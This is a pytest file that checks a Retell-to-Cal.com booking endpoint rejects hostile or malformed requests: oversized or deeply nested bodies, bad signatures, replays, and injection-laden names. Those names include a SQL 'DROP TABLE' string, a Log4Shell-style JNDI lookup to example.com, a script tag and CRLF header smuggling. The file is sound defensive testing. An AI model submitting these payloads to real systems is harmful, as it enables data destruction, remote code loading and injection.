"""Hostile or broken requests at the HTTP edge: a clear 4xx or `invalid`, and no Cal.com.

Complements ``tests/booking/test_retell_endpoint.py`` (unsigned, forged, stale, malformed
and oversized-with-length requests, unparseable dates and times).
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any

import pytest
from reliability_world import CALLER, EVENT_TYPE_ID, MEMORY_STORE, RETELL_KEY, World

from retell_booking_tools.config import DEFAULT_MAX_BODY_BYTES as MAX_BODY_BYTES
from retell_booking_tools.retell.signature import SIGNATURE_HEADER, sign

pytestmark = MEMORY_STORE

TOOL = "collect_appointment_data"
ARGS = {"customer_name": "Max Mustermann", "date": "2025-10-10", "time": "11:00"}
PATH = f"/retell/functions/{TOOL}"


def signed_headers(world: World, body: bytes, **extra: str) -> dict[str, str]:
    return {
        "content-type": "application/json",
        SIGNATURE_HEADER: sign(body.decode("utf-8", "replace"), RETELL_KEY, at=world.clock()),
        **extra,
    }


def call_body(world: World, args: dict[str, Any], **call_fields: Any) -> bytes:
    call = world.retell.call_object("call_1", from_number=CALLER, **call_fields)
    return world.retell.body(TOOL, args, call)


async def post(world: World, body: bytes, headers: dict[str, str]) -> Any:
    return await world.retell._client.post(PATH, content=body, headers=headers)


def assert_nothing_reached_calcom(world: World) -> None:
    assert world.calcom.requests == []


async def test_oversized_body_streamed_without_a_length_is_413(world: World) -> None:
    """A chunked body is cut off once it passes the limit, whatever it claims."""

    async def chunks() -> AsyncIterator[bytes]:
        yield b'{"call": {"call_id": "c"}, "args": {"notes": "'
        for _ in range(MAX_BODY_BYTES // 1_000_000 + 1):
            yield b"x" * 1_000_000
        yield b'"}}'

    response = await world.retell._client.post(
        PATH, content=chunks(), headers={"content-type": "application/json"}
    )

    assert response.status_code == 413
    assert_nothing_reached_calcom(world)


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"],
)
async def test_a_body_that_is_not_declared_json_is_415(world: World, content_type: str) -> None:
    body = call_body(world, ARGS)

    response = await post(
        world, body, signed_headers(world, body, **{"content-type": content_type})
    )

    assert response.status_code == 415
    assert_nothing_reached_calcom(world)


async def test_json_with_a_charset_parameter_is_accepted(world: World) -> None:
    body = call_body(world, ARGS)
    headers = signed_headers(world, body, **{"content-type": "application/json; charset=utf-8"})

    response = await post(world, body, headers)

    assert response.status_code == 200
    assert response.json()["status"] == "booked"


@pytest.mark.parametrize("depth", [40, 900, 100_000])
async def test_deeply_nested_json_is_400(world: World, depth: int) -> None:
    """Nesting no Retell request has is refused before any tool runs, however deep."""
    nested = "[" * depth + "]" * depth
    body = call_body(world, {**ARGS, "notes": "NESTED"}).replace(b'"NESTED"', nested.encode())

    response = await post(world, body, signed_headers(world, body))

    assert response.status_code == 400
    assert_nothing_reached_calcom(world)


@pytest.mark.parametrize("depth", [40, 100_000])
async def test_deeply_nested_call_events_are_400_and_store_nothing(
    world: World, depth: int
) -> None:
    """The call events webhook refuses the same nesting, instead of failing with a 500."""
    nested = "[" * depth + "]" * depth
    body = b'{"event": "call_ended", "call": {"call_id": "call_deep", "metadata": %s}}' % (
        nested.encode()
    )

    response = await world.retell.post_event(body)

    assert response.status_code == 400
    assert await world.repository.get_call("call_deep") is None


async def test_invalid_utf8_is_refused(world: World) -> None:
    """Bytes that are not UTF-8 cannot carry a valid signature: 401, never a 500."""
    body = call_body(world, ARGS).replace(b"Max", b"M\xff\xfex")
    signature = sign(body.decode("utf-8", "replace"), RETELL_KEY, at=world.clock())

    response = await post(
        world, body, {"content-type": "application/json", SIGNATURE_HEADER: signature}
    )

    assert response.status_code == 401
    assert_nothing_reached_calcom(world)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("customer_name", "M" * 200_000),
        ("notes", "n" * 200_000),
        ("service", "s" * 100_000),
        ("email", "a" * 100_000 + "@example.com"),
        ("phone", "1" * 100_000),
        ("date", "2025-10-10" * 10_000),
        ("time", "11:00" * 10_000),
    ],
)
async def test_huge_strings_in_args_are_invalid_naming_the_field(
    world: World, field: str, value: str
) -> None:
    answer = await world.call_tool(TOOL, {**ARGS, field: value}, call_id="call_1")

    assert answer.status_code == 200
    assert answer.json()["status"] == "invalid"
    assert answer.json()["field"] == field
    assert_nothing_reached_calcom(world)


@pytest.mark.parametrize(
    "name",
    [
        "Robert'); DROP TABLE appointments;--",
        "' OR '1'='1",
        "{{7*7}}",
        "${jndi:ldap://example.com/a}",
        "<script>alert(1)</script>",
        "<%= 7*7 %>",
        "Max\x00Mustermann",
        "Max\r\nBcc: someone",
        "Max\x1b[31m",
        "\ud800Max",
    ],
)
async def test_injection_looking_or_control_character_names_are_invalid(
    world: World, name: str
) -> None:
    """Names no person has: refused before anything is stored or sent."""
    answer = await world.call_tool(TOOL, {**ARGS, "customer_name": name}, call_id="call_1")

    assert answer.status_code == 200
    assert answer.json()["status"] == "invalid"
    assert answer.json()["field"] == "customer_name"
    assert_nothing_reached_calcom(world)
    assert await world.repository.appointments_for_customer(1) == []


@pytest.mark.parametrize(
    "name", ["Zoë O'Brien-Łukasiewicz", "Jean-Luc Picard Jr.", "Müller (Praxis)", "李小龍"]
)
async def test_real_names_with_apostrophes_and_accents_still_book(world: World, name: str) -> None:
    answer = await world.call_tool(TOOL, {**ARGS, "customer_name": name}, call_id="call_1")

    assert answer.json()["status"] == "booked"


@pytest.mark.parametrize(
    "call_fields",
    [
        {"call_id": "c" * 10_000},
        {"call_id": "call\x00one"},
        {"call_id": "call one\n"},
        {"from_number": "+49151\x0012345678"},
        {"agent_id": "agent\ud800"},
    ],
)
async def test_malformed_call_objects_are_400(world: World, call_fields: dict[str, str]) -> None:
    call = {**world.retell.call_object("call_1", from_number=CALLER), **call_fields}
    body = world.retell.body(TOOL, ARGS, call)

    response = await post(world, body, signed_headers(world, body))

    assert response.status_code == 400
    assert_nothing_reached_calcom(world)


@pytest.mark.parametrize(
    "signature",
    [
        "",
        "garbage",
        "v=,d=",
        "v=abc,d=def",
        "d=00,v=1",
        "v=1" + "0" * 5000 + ",d=" + "f" * 64,
        "v=99999999999999999999999999,d=" + "0" * 64,
    ],
)
async def test_malformed_signature_headers_are_401(world: World, signature: str) -> None:
    body = call_body(world, ARGS)

    response = await post(
        world, body, {"content-type": "application/json", SIGNATURE_HEADER: signature}
    )

    assert response.status_code == 401
    assert_nothing_reached_calcom(world)


async def test_captured_request_replayed_after_the_window_is_401_and_books_nothing(
    world: World,
) -> None:
    """A request that booked, replayed byte for byte six minutes later, is refused."""
    body = call_body(world, ARGS)
    headers = signed_headers(world, body)
    first = await post(world, body, headers)
    assert first.json()["status"] == "booked"

    world.clock.advance(timedelta(minutes=6))
    replayed = await post(world, body, headers)

    assert replayed.status_code == 401
    assert world.calcom.created_bookings_count() == 1
    assert world.booking_posts() == 1


async def test_wrong_method_is_405(world: World) -> None:
    response = await world.retell._client.get(PATH)

    assert response.status_code == 405
    assert_nothing_reached_calcom(world)


async def test_args_that_are_not_an_object_are_400(world: World) -> None:
    call = world.retell.call_object("call_1", from_number=CALLER)
    body = json.dumps({"call": call, "name": TOOL, "args": ["Max", "2025-10-10"]}).encode()

    response = await post(world, body, signed_headers(world, body))

    assert response.status_code == 400
    assert_nothing_reached_calcom(world)


async def test_absurd_event_type_override_is_ignored_and_the_configured_one_booked(
    world: World,
) -> None:
    """A 50-digit event type id from the call's variables never reaches the store or Cal.com."""
    variables = {"booking_event_type_id": "9" * 50}
    body = call_body(world, ARGS, retell_llm_dynamic_variables=variables)

    response = await post(world, body, signed_headers(world, body))

    assert response.json()["status"] == "booked"
    assert [b.event_type_id for b in world.calcom.bookings] == [EVENT_TYPE_ID]
